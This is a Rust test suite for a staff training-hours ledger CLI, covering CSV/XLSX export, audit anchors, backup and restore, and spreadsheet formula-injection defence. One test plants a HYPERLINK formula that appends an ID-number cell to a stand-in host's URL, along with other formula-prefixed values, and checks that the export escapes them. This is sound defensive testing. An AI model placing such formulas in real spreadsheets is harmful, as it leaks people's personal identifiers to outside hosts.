mod common;
use common::{id_number, path_str, status_of, Ledger, RECORDS_HEADER};

fn approved_ledger() -> (Ledger, String) {
    let l = Ledger::new();
    let a = id_number("19800101", 101);
    let staff = l.write("staff.csv", format!("姓名,身份证号,部门\n张三,{a},内科\n"));
    l.ok(&["staff", "import", path_str(&staff)]);
    let recs = l.write(
        "records.csv",
        format!(
            "{RECORDS_HEADER}\
             {a},posting,,援疆,2025-01-01,2025-12-31,,12,,派遣文件\n\
             {a},city_platform,公需,数字技术,2025-04-01,2025-04-01,12,,,\n\
             {a},training,,培训,2025-03-01,2025-03-01,8,,,证书\n"
        ),
    );
    l.ok(&["records", "import", path_str(&recs)]);
    l.ok(&["review", "approve", "1", "--by", "王敏"]);
    (l, a)
}

#[test]
fn export_csv_has_bom_two_rows_for_a_posting_and_no_city_platform() {
    let (l, a) = approved_ledger();
    let out = l.dir.path().join("upload.csv");
    l.ok(&["export", "--year", "2025", "--out", path_str(&out)]);
    let bytes = std::fs::read(&out).unwrap();
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"));
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines[0], "序号,姓名,身份证号,科目类别,类别,项目名称,开始日期,结束日期,认定学时,证明材料,审核人,审核日期");
    assert_eq!(
        lines.len(),
        3,
        "posting → 公需 + 专业; pending training and synced city study are not exported; data rows only: {text}"
    );
    // The anchor is beside the file, where `audit verify --anchor` finds it.
    let beside = std::fs::read_to_string(l.dir.path().join("upload.csv.anchor")).unwrap();
    assert!(beside.starts_with("审计锚点;台账="), "{beside}");
    let verified = l.ok(&["audit", "verify", "--anchor", path_str(&out)]);
    assert!(
        verified.contains("upload.csv") && verified.contains("一致"),
        "{verified}"
    );
    assert!(
        lines[1].contains(&a) && lines[1].contains("公需") && lines[1].contains(",30,"),
        "{}",
        lines[1]
    );
    assert!(
        lines[2].contains("专业") && lines[2].contains(",60,"),
        "{}",
        lines[2]
    );
    assert!(!text.contains("数字技术"));
    let log = l.json(&["audit", "log", "--json"]);
    assert!(log
        .as_array()
        .unwrap()
        .iter()
        .any(|e| e["action"] == "export"));
}

#[test]
fn export_xlsx_opens_with_ids_as_text() {
    let (l, a) = approved_ledger();
    let out = l.dir.path().join("upload.xlsx");
    l.ok(&["export", "--year", "2025", "--out", path_str(&out)]);
    use calamine::{Data, Reader};
    let mut book = calamine::open_workbook_auto(&out).unwrap();
    let sheet = book.worksheet_range("2025年度认定学时").unwrap();
    assert_eq!(sheet.get((1, 2)), Some(&Data::String(a)));
    assert!(book.worksheet_range("人员汇总").is_ok());
}

#[test]
fn backup_and_restore_round_trip_and_refuse_a_bad_file() {
    let (l, _) = approved_ledger();
    let copy = l.dir.path().join("备份.sqlite3");
    l.ok(&["backup", "--out", path_str(&copy)]);
    l.ok(&[
        "review",
        "reject",
        "3",
        "--reason",
        "证书不清晰",
        "--by",
        "王敏",
    ]);
    let bad = l.write("bad.sqlite3", "this is not a ledger");
    assert!(!l.run(&["restore", path_str(&bad)]).status.success());
    assert_eq!(
        status_of(&l, 3),
        "rejected",
        "a refused restore changes nothing"
    );
    l.ok(&["restore", path_str(&copy)]);
    assert_eq!(status_of(&l, 3), "pending");
    assert!(l.ok(&["audit", "verify"]).contains("审计链完整"));
}

#[test]
fn formula_text_is_written_as_plain_text_in_every_spreadsheet_file() {
    let l = Ledger::new();
    let a = id_number("19800101", 101);
    let staff = l.write("staff.csv", format!("姓名,身份证号,部门\n张三,{a},-内科\n"));
    l.ok(&["staff", "import", path_str(&staff)]);
    let title = r#"=HYPERLINK("http://x.invalid/?"&C2,"详情")"#;
    let recs = l.write(
        "records.csv",
        format!(
            "{RECORDS_HEADER}\
             {a},training,,\"{}\",2025-03-01,2025-03-01,8,,,@SUM(1)\n",
            title.replace('"', "\"\"")
        ),
    );
    l.ok(&["records", "import", path_str(&recs)]);
    l.ok(&["review", "approve", "1", "--by", "+王敏"]);

    let csv_out = l.dir.path().join("upload.csv");
    l.ok(&["export", "--year", "2025", "--out", path_str(&csv_out)]);
    let text = String::from_utf8(std::fs::read(&csv_out).unwrap()[3..].to_vec()).unwrap();
    let row: Vec<String> = csv::Reader::from_reader(text.as_bytes())
        .records()
        .next()
        .unwrap()
        .unwrap()
        .iter()
        .map(String::from)
        .collect();
    assert_eq!(row[5], format!("'{title}"));
    assert_eq!(row[9], "'@SUM(1)");
    assert_eq!(row[10], "'+王敏");
    assert_eq!(row[8], "8", "numbers stay numbers");

    let xlsx_out = l.dir.path().join("upload.xlsx");
    l.ok(&["export", "--year", "2025", "--out", path_str(&xlsx_out)]);
    use calamine::{Data, Reader};
    let mut book = calamine::open_workbook_auto(&xlsx_out).unwrap();
    let sheet = book.worksheet_range("2025年度认定学时").unwrap();
    assert_eq!(sheet.get((1, 5)), Some(&Data::String(format!("'{title}"))));
    assert_eq!(sheet.get((1, 8)), Some(&Data::Float(8.0)));
    let summary = book.worksheet_range("人员汇总").unwrap();
    assert_eq!(summary.get((1, 2)), Some(&Data::String("'-内科".into())));

    let reminders = l.dir.path().join("提醒.csv");
    l.ok(&[
        "notice",
        "reminders",
        "--year",
        "2025",
        "--out",
        path_str(&reminders),
    ]);
    let text = std::fs::read_to_string(&reminders).unwrap();
    assert!(text.contains(",'-内科,"), "{text}");
}
